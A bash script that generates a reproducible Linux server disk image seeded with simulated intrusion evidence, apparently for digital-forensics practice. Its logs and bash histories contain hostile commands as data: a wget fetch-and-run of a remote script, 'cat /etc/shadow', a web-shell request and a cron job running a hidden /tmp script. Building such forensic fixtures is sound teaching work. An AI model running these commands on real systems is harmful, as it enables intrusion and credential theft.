#!/usr/bin/env bash
# Generate a small Linux server disk image: MBR with one ext4 partition holding
# /etc, /var/log (auth.log, syslog, nginx access log, dpkg.log, wtmp) and /home
# with bash histories; one deleted file. Times are pinned for reproducibility.
# Usage: make-server-disk.sh OUT.img [SIZE_MIB]
set -euo pipefail
out=$1
size=${2:-64}
[ -e "$out" ] && { echo "make-server-disk: '$out' exists" >&2; exit 2; }
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
r=$tmp/root
mkdir -p "$r/etc" "$r/var/log/nginx" "$r/var/log/apt" "$r/home/alice" "$r/root" "$r/tmp"
echo "web01" > "$r/etc/hostname"
printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n' > "$r/etc/passwd"
cat > "$r/var/log/auth.log" <<'LOG'
2026-03-14T02:11:05.123456+00:00 web01 sshd[811]: Failed password for invalid user admin from 203.0.113.7 port 51022 ssh2
2026-03-14T02:11:09.532101+00:00 web01 sshd[811]: Failed password for root from 203.0.113.7 port 51022 ssh2
2026-03-14T02:12:44.000812+00:00 web01 sshd[830]: Accepted password for alice from 203.0.113.7 port 51100 ssh2
2026-03-14T02:13:02.441000+00:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/wget http://203.0.113.7/x.sh
2026-03-14T02:14:10.000000+00:00 web01 useradd[901]: new user: name=backup2, UID=1001, GID=1001, home=/home/backup2, shell=/bin/bash
LOG
cat > "$r/var/log/syslog" <<'LOG'
2026-03-14T02:10:00.000000+00:00 web01 systemd[1]: Started Daily apt download activities.
2026-03-14T02:15:01.000000+00:00 web01 CRON[950]: (root) CMD (/tmp/.x/run.sh)
LOG
cat > "$r/var/log/nginx/access.log" <<'LOG'
203.0.113.7 - - [14/Mar/2026:02:09:58 +0000] "GET /wp-login.php HTTP/1.1" 404 153 "-" "Mozilla/5.0"
203.0.113.7 - - [14/Mar/2026:02:10:03 +0000] "POST /upload.php HTTP/1.1" 200 17 "-" "curl/7.88"
198.51.100.23 - - [14/Mar/2026:02:20:13 +0000] "GET /shell.php?cmd=id HTTP/1.1" 200 54 "-" "python-requests/2.31"
LOG
cat > "$r/var/log/dpkg.log" <<'LOG'
2026-03-14 02:16:40 install netcat-traditional:amd64 <none> 1.10-47
2026-03-14 02:16:41 status installed netcat-traditional:amd64 1.10-47
LOG
printf '#1773454400\nwget http://203.0.113.7/x.sh\n#1773454410\nchmod +x x.sh\n./x.sh\n' > "$r/home/alice/.bash_history"
printf 'ls -la\ncat /etc/shadow\n' > "$r/root/.bash_history"
printf 'payload' > "$r/tmp/dropper.sh"
find "$r" -exec touch -h -d '2026-03-14 03:00:00 UTC' {} +
part=$tmp/part.img
truncate -s $(( (size - 1) * 1024 * 1024 )) "$part"
mkfs.ext4 -q -F -L web01-root -E root_owner=0:0 -d "$r" "$part"
# delete the dropper the way an attacker would, leaving its inode for recovery
debugfs -w -R "rm /tmp/dropper.sh" "$part" >/dev/null 2>&1
truncate -s $(( size * 1024 * 1024 )) "$out"
printf 'label: dos\nstart=2048, type=83\n' | sfdisk -q "$out"
dd if="$part" of="$out" bs=1M seek=1 conv=notrunc status=none
